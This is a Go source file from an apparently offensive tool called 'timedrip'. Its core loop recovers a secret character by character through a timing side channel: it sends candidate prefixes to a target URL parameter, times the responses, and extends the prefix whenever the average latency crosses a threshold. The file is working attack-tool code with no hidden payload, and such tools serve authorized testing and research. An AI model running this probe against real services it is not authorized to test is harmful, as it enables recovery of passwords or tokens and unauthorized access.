package core

import (
	"context"
	"sort"
	"time"

	"github.com/nkov/timedrip/internal/config"
	"github.com/nkov/timedrip/internal/utils"
)

// TrialSink receives probe progress as it happens. The output package
// implements it for the console; tests use the no-op.
type TrialSink interface {
	CandidateMeasured(candidate string, average time.Duration, reflected bool)
	CharacterAccepted(char string, known string)
	PositionStalled(known string, ranked []Candidate)
}

type noopSink struct{}

func (noopSink) CandidateMeasured(string, time.Duration, bool) {}
func (noopSink) CharacterAccepted(string, string)              {}
func (noopSink) PositionStalled(string, []Candidate)           {}

// Prober drives the character-by-character secret discovery loop against an
// Oracle. It owns the accept/stall decision; measuring is the oracle's job.
type Prober struct {
	cfg    *config.Config
	oracle Oracle
	logger utils.Logger
	sink   TrialSink
}

// NewProber creates a Prober. A nil sink disables progress output.
func NewProber(cfg *config.Config, oracle Oracle, logger utils.Logger, sink TrialSink) *Prober {
	if sink == nil {
		sink = noopSink{}
	}
	return &Prober{
		cfg:    cfg,
		oracle: oracle,
		logger: logger,
		sink:   sink,
	}
}

// DiscoverNext probes one position: it measures known+c for each charset
// character c in order and accepts the first whose average strictly exceeds
// the threshold. The search short-circuits on acceptance; remaining
// characters are not measured, and charset order is the tie-break.
//
// When the charset is exhausted without a crossing, the position stalls and
// the returned Position carries the top slowest candidates in descending
// order for manual inspection.
func (p *Prober) DiscoverNext(ctx context.Context, known string, index int) (Position, error) {
	pos := Position{Index: index}
	var candidates []Candidate

	for _, r := range p.cfg.CharsetRunes() {
		m, err := p.oracle.Measure(ctx, known+string(r))
		if err != nil {
			return pos, err
		}

		cand := Candidate{
			Candidate: m.Candidate,
			Char:      string(r),
			Average:   m.Average,
			Samples:   len(m.Samples),
			Failures:  m.Failures,
			Reflected: m.Reflected,
		}
		candidates = append(candidates, cand)
		pos.Measured++
		pos.Requests += len(m.Samples)
		p.sink.CandidateMeasured(cand.Candidate, cand.Average, cand.Reflected)

		if m.Reflected {
			p.logger.Debugf("Candidate '%s' reflected in the response body.", cand.Candidate)
		}

		// Strictly above the threshold. Accept immediately rather than
		// finishing the charset and taking the maximum: this is the
		// original's early-exit heuristic, inherited deliberately even
		// though it has no correctness guarantee on noisy networks.
		if m.Average > p.cfg.Threshold {
			pos.Accepted = &cand
			p.sink.CharacterAccepted(cand.Char, known+cand.Char)
			return pos, nil
		}
	}

	pos.Ranked = rankSlowest(candidates, p.cfg.TopSlowest)
	p.sink.PositionStalled(known, pos.Ranked)
	return pos, nil
}

// Run executes the full discovery state machine and returns the final state.
// Termination is guaranteed: either some position stalls, the configured
// maximum secret length is reached, or the context is canceled. The returned
// state is complete in every case; a canceled run still reports the prefix
// discovered so far.
func (p *Prober) Run(ctx context.Context) State {
	st := NewState(p.cfg.Seed)
	p.logger.Infof("Starting timing probe against %s (param '%s', threshold %s, %d attempts/candidate).",
		p.cfg.TargetURL, p.cfg.ParamName, p.cfg.Threshold, p.cfg.Attempts)
	if st.Seed != "" {
		p.logger.Infof("Seeding with known prefix '%s'.", st.Seed)
	}

	for st.Phase == PhaseExtending {
		if len(st.Known) >= p.cfg.MaxSecretLength {
			p.logger.Warnf("Known prefix reached the maximum secret length (%d). Stopping.", p.cfg.MaxSecretLength)
			st.Phase = PhaseStalled
			st.StopReason = StopLengthLimit
			break
		}

		pos, err := p.DiscoverNext(ctx, st.Known, len(st.Positions))
		if err != nil {
			p.logger.Warnf("Probe interrupted at position %d: %v", pos.Index, err)
			st.Positions = append(st.Positions, pos)
			st.Phase = PhaseStalled
			st.StopReason = StopCanceled
			break
		}

		st.Positions = append(st.Positions, pos)
		if pos.Accepted == nil {
			st.Phase = PhaseStalled
			st.StopReason = StopThreshold
			break
		}

		st.Known += pos.Accepted.Char
		p.logger.Infof("Accepted '%s' at position %d (avg %s). Known prefix: '%s'",
			pos.Accepted.Char, pos.Index, pos.Accepted.Average.Round(time.Millisecond), st.Known)
	}

	return st
}

// rankSlowest returns up to n candidates ordered by descending average.
// Stable sort keeps charset order among equal averages.
func rankSlowest(candidates []Candidate, n int) []Candidate {
	ranked := make([]Candidate, len(candidates))
	copy(ranked, candidates)
	sort.SliceStable(ranked, func(i, j int) bool { return ranked[i].Average > ranked[j].Average })
	if len(ranked) > n {
		ranked = ranked[:n]
	}
	return ranked
}
